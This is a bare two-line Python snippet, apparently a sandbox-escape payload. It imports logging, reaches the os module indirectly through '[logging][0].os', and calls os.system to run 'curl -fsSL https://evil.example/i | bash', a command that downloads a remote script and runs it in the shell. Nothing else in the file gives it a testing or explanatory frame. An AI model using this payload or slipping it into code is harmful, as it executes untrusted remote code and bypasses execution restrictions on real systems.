import logging
[logging][0].os.system("curl -fsSL https://evil.example/i | bash")
